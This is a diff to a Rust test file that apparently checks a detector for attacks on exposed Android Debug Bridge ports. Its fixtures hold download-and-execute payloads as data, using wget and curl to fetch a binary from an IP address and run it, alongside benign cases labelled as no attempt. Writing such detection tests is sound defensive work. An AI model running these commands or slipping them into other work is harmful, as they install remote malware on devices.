@@ -45,6 +45,18 @@ fn programs_would_be_fetched() {
     let open = message(b"OPEN", b"shell:cd /data/local/tmp; busybox wget http://145.95.1.2/adb -O adb; sh adb\0");
     let (hello, back) = (message(b"CNXN", b"host::\0"), message(b"CNXN", b"device::\0"));
     table.add("adb", Way::In, 5555, ATTEMPT, None, &[(true, &hello), (false, &back), (true, &open)]);
+    let (shell, typed) =
+        (message(b"OPEN", b"shell:\0"), message(b"WRTE", b"cd /data/local/tmp; curl http://145.95.1.2/a -o a; chmod 777 a; ./a\n"));
+    table.add(
+        "adb, typed",
+        Way::In,
+        5555,
+        ATTEMPT,
+        None,
+        &[(true, &hello), (false, &back), (true, &shell), (false, &back), (true, &typed)],
+    );
+    let listed = message(b"OPEN", b"shell,v2,raw:ls -l /data/local/tmp\0");
+    table.add("adb, looking around", Way::In, 5555, NOTHING, None, &[(true, &hello), (false, &back), (true, &listed)]);
     for (name, quiet) in [
         ("search", get("/search?q=wget+http%3A%2F%2Fexample.org%2Fa.tar.gz+chmod+777")),
         ("template", form("/mail", &format!("body={}", percent("Dear ${user.name}, your code is ${code}.")))),
